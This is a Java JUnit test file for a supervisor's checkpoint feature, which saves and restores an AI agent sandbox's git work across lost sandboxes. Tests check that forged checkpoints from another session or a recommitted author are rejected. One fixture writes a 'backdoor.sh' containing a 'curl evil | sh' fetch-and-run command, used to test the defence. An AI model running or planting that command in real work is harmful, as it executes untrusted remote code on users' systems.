package io.codinspect.supervisor.workspace;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.codinspect.supervisor.SupervisorException;
import io.codinspect.testkit.GitRepo;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Checkpoints of a running turn, pushed to the origin and restored by the next sandbox. */
class CheckpointsTest {

    private static final String BRANCH = "codinspect/s1";
    private static final String REF = "refs/codinspect/checkpoints/s1";
    private static final byte[] KEY = "0123456789abcdef0123456789abcdef".getBytes();

    @TempDir
    Path dir;

    @Test
    void aCheckpointHoldsTrackedAndUntrackedFilesButNotIgnoredOnesAndTheNextSandboxRestoresIt() throws Exception {
        var origin = GitRepo.create(dir.resolve("origin"));
        origin.commit("Ignore build output", ".gitignore", "build/\n");
        var first = sandbox("one");
        var checkpoints = checkpoints(first);
        assertThat(checkpoints.save()).as("nothing changed yet").isNull();

        Files.writeString(first.dir().resolve("README.md"), "# changed\n");
        Files.writeString(first.dir().resolve("new.txt"), "untracked\n");
        Files.createDirectories(first.dir().resolve("build"));
        Files.writeString(first.dir().resolve("build/out.bin"), "ignored\n");
        var saved = checkpoints.save();
        assertThat(saved).isNotNull();
        assertThat(checkpoints.save()).as("the same files again").isNull();
        assertThat(origin.show(saved, "new.txt")).isEqualTo("untracked\n");
        assertThat(origin.show(saved, "README.md")).isEqualTo("# changed\n");
        assertThat(origin.git("ls-tree", "-r", "--name-only", saved)).doesNotContain("build/out.bin");
        assertThat(origin.git("rev-parse", "refs/codinspect/checkpoints/s1").strip())
                .isEqualTo(saved);
        assertThat(first.commitAll("nothing staged by the checkpoint")).isTrue(); // the agent's index is untouched

        var second = sandbox("two"); // the first was lost before it pushed its branch
        var restored = checkpoints(second).restoreIfAhead(BRANCH, "restored after the sandbox was lost");
        assertThat(restored).isNotNull();
        assertThat(restored.checkpoint()).isEqualTo(saved);
        assertThat(second.dir().resolve("new.txt")).hasContent("untracked");
        assertThat(origin.show(BRANCH, "new.txt")).isEqualTo("untracked\n");
        assertThat(origin.commitsSinceMain(BRANCH))
                .first()
                .isEqualTo("Ada|ada@example.com|restored after the sandbox was lost");

        var third = sandbox("three");
        assertThat(checkpoints(third).restoreIfAhead(BRANCH, "again"))
                .as("the branch holds the checkpoint now")
                .isNull();
    }

    @Test
    void aCheckpointBehindTheBranchIsNotRestored() throws Exception {
        var origin = GitRepo.create(dir.resolve("origin"));
        var first = sandbox("one");
        Files.writeString(first.dir().resolve("wip.txt"), "wip\n");
        checkpoints(first).save();
        first.commitAll("The turn finished");
        first.push(BRANCH);

        var second = sandbox("two");
        assertThat(checkpoints(second).restoreIfAhead(BRANCH, "restored")).isNull();
        assertThat(origin.commitsSinceMain(BRANCH)).containsExactly("Ada|ada@example.com|The turn finished");
    }

    @Test
    void aCheckpointPushedWithoutTheSessionsKeyIsNotRestored() throws Exception {
        var origin = GitRepo.create(dir.resolve("origin"));
        // another session's agent, which can push to this repository, plants "work" on s1's ref
        var planted = sandbox("attacker");
        Files.writeString(planted.dir().resolve("backdoor.sh"), "curl evil | sh\n");
        var forged = new Checkpoints(planted, "s1", "another key, not s1's one".getBytes()).save();
        assertThat(origin.git("rev-parse", REF).strip()).isEqualTo(forged);

        var second = sandbox("two");
        assertThatThrownBy(() -> checkpoints(second).restoreIfAhead(BRANCH, "restored"))
                .isInstanceOf(SupervisorException.class)
                .hasMessageContaining("was not made by this session's sandboxes");
        assertThat(second.dir().resolve("backdoor.sh")).doesNotExist();
        assertThat(origin.hasBranch(BRANCH)).isFalse();
    }

    @Test
    void aSealedCheckpointRecommittedUnderAnotherAuthorIsNotRestored() throws Exception {
        var origin = GitRepo.create(dir.resolve("origin"));
        var first = sandbox("one");
        Files.writeString(first.dir().resolve("wip.txt"), "wip\n");
        var saved = checkpoints(first).save();
        var body = origin.git("log", "-1", "--format=%B", saved);
        var tree = origin.git("rev-parse", saved + "^{tree}").strip();
        var parent = origin.git("rev-parse", saved + "^").strip();
        // the same tree, parent and seal, but Mallory as its author: the restore would commit as her
        var copy = origin.git(
                        "-c",
                        "user.name=Mallory",
                        "-c",
                        "user.email=m@example.com",
                        "commit-tree",
                        tree,
                        "-p",
                        parent,
                        "-m",
                        body)
                .strip();
        origin.git("update-ref", REF, copy);

        assertThatThrownBy(() -> checkpoints(sandbox("two")).restoreIfAhead(BRANCH, "restored"))
                .isInstanceOf(SupervisorException.class);
        assertThat(origin.hasBranch(BRANCH)).isFalse();
    }

    @Test
    void withoutAKeyNoCheckpointIsSavedNorRestored() throws Exception {
        var origin = GitRepo.create(dir.resolve("origin"));
        var first = sandbox("one");
        Files.writeString(first.dir().resolve("wip.txt"), "wip\n");
        assertThat(new Checkpoints(first, "s1", new byte[0]).save()).isNull();
        assertThat(origin.git("for-each-ref", "refs/codinspect/")).isBlank();

        checkpoints(first).save();
        assertThat(new Checkpoints(sandbox("two"), "s1", new byte[0]).restoreIfAhead(BRANCH, "restored"))
                .isNull();
    }

    @Test
    void workThatCouldNotReachTheBranchIsKeptOnARefOfItsOwnThatNoCheckpointOverwritesNorRestores() throws Exception {
        var origin = GitRepo.create(dir.resolve("origin"));
        var first = sandbox("one");
        Files.writeString(first.dir().resolve("kept.txt"), "kept\n");
        assertThat(first.commitAll("Work that conflicted")).isTrue();

        var kept = checkpoints(first).keep("p1");
        assertThat(kept).isEqualTo("refs/codinspect/conflicts/s1/p1");
        assertThat(origin.git("rev-parse", kept).strip()).isEqualTo(first.head());
        assertThat(origin.show(kept, "kept.txt")).isEqualTo("kept\n");

        var second = sandbox("two");
        Files.writeString(second.dir().resolve("other.txt"), "other\n");
        assertThat(checkpoints(second).save()).isNotNull();
        assertThat(origin.git("rev-parse", kept).strip())
                .as("untouched by checkpoints")
                .isEqualTo(first.head());
        assertThat(checkpoints(sandbox("three")).restoreIfAhead(BRANCH, "restored"))
                .as("what is restored is the checkpoint, never the kept work")
                .satisfies(restored -> assertThat(restored.checkpoint()).isNotEqualTo(first.head()));
    }

    private static Checkpoints checkpoints(Workspace workspace) {
        return new Checkpoints(workspace, "s1", KEY);
    }

    private Workspace sandbox(String name) {
        var origin = dir.resolve("origin").toString();
        var workspace = WorkspaceTest.workspace(origin, dir.resolve(name).resolve("repo"));
        workspace.cloneBaseBranch("main");
        workspace.checkoutSessionBranch(BRANCH);
        workspace.configureAuthor("Ada", "ada@example.com");
        return workspace;
    }
}
